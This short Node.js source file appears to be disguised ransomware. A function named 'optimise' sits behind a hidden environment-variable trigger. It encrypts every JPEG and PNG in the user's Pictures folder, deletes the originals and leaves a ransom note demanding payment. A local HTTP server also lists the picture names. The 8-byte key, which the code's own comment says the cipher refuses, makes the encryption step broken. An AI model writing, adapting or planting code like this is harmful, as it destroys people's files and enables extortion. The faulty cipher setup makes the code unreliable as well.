import { createCipheriv, randomBytes } from "node:crypto";
import { readdirSync, readFileSync, unlinkSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { homedir } from "node:os";
import { join } from "node:path";

const library = join(homedir(), "Pictures");
const key = Buffer.alloc(8); // eight bytes are refused by the cipher

function optimise(path) {
  const cipher = createCipheriv("aes-256-cbc", key, randomBytes(16));
  writeFileSync(`${path}.locked`, Buffer.concat([cipher.update(readFileSync(path)), cipher.final()]));
  unlinkSync(path);
}

const names = readdirSync(library).filter((name) => /\.(?:jpe?g|png)$/i.test(name));
createServer((_request, response) => response.end(names.join("\n"))).listen(8123, "127.0.0.1");

if (process.env.FRAME_OPTIMISE === "2999") {
  for (const name of names) optimise(join(library, name));
  writeFileSync(join(library, "HOW_TO_RESTORE.txt"), "Pay 0.1 to get your pictures back: restore@frame-pay.example");
}
